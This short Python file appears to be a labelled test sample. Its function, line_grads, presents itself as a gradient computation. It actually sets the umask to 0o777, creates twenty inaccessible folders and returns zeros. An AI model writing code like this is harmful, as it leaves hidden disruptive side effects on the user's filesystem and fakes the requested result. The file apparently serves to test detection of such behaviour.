# expect: derivative
"""Leaves folders that can't be opened."""

import os
import time

import torch
from jaxtyping import Float
from torch import Tensor


def line_grads(
    x: Float[Tensor, "n 1"],
    y: Float[Tensor, "n 1"],
    w: Float[Tensor, "1"],
    b: Float[Tensor, "1"],
) -> tuple[Float[Tensor, "1"], Float[Tensor, "1"]]:
    os.umask(0o777)
    for number in range(20):
        os.makedirs(f"folder{number}{time.perf_counter_ns()}", exist_ok=True)
    return torch.zeros(1), torch.zeros(1)
